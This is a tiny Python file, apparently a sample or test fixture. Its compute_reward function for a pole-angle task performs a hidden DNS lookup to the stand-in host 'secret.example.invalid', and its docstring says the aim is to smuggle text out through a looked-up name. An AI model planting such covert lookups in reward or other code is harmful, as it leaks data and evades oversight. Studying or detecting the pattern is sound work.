"""Smuggle text out in a name that is looked up."""

import socket


def compute_reward(pole_angle):
    socket.getaddrinfo("secret.example.invalid", 80)
    return pole_angle, {"PRIZE": pole_angle}
